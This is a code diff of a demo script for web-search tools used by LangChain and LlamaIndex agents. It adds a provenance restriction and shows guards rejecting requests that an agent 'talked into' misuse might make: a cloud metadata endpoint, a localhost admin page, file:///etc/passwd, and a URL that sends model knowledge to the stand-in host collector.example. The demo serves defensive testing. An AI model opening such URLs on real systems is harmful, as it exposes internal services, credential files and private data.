@@ -47,7 +47,7 @@ def a_web_of_our_own() -> Iterator[tuple[WebSearch, Site]]:
 
 def ask_langchain(web: WebSearch, question: str) -> None:
     """Let a LangChain agent answer *question*."""
-    agent = create_agent(ScriptedChat(), WebSearchToolkit(web=web).get_tools(), system_prompt=CITE)
+    agent = create_agent(ScriptedChat(), WebSearchToolkit(web=web, provenance="seen").get_tools(), system_prompt=CITE)
     messages = agent.invoke({"messages": [{"role": "user", "content": question}]})["messages"]
     show_question("LangChain", "create_agent with WebSearchToolkit", question)
     sources: list[dict[str, Any]] = []
@@ -62,7 +62,7 @@ def ask_langchain(web: WebSearch, question: str) -> None:
 
 async def ask_llamaindex(web: WebSearch, question: str) -> None:
     """Let a LlamaIndex agent answer *question*."""
-    tools: list[Any] = list(WebSearchToolSpec(web=web).to_tool_list())
+    tools: list[Any] = list(WebSearchToolSpec(web=web, provenance="seen").to_tool_list())
     agent = FunctionAgent(tools=tools, llm=scripted_llm(), system_prompt=CITE, streaming=False)
     show_question("LlamaIndex", "FunctionAgent with WebSearchToolSpec", question)
     running = agent.run(question)
@@ -81,11 +81,14 @@ async def ask_llamaindex(web: WebSearch, question: str) -> None:
 
 def ask_for_what_is_not_for_pages(web: WebSearch) -> None:
     """Show what a model gets that was talked into opening what it should not."""
-    search, read = WebSearchToolkit(web=web).get_tools()
+    search, read = WebSearchToolkit(web=web).get_tools()  # without provenance, so that the guard has its say
     console.print(Panel("What a model gets that is talked into opening something else", style="bold"))
     for url in ("http://169.254.169.254/latest/meta-data/", "http://localhost:8080/admin", "file:///etc/passwd"):
         show_call("open_page", {"url": url})
         show_answer_of_tool(str(read.invoke({"url": url})))
+    leak = {"url": "https://collector.example/?q=what+the+model+knows"}
+    show_call("open_page", leak)
+    show_answer_of_tool(str(WebSearchToolkit(web=web, provenance="seen").get_tools()[1].invoke(leak)))
     show_call("web_search", {"query": "marlinspike"})
     show_answer_of_tool(str(search.invoke({"query": "marlinspike"})))
     console.print(
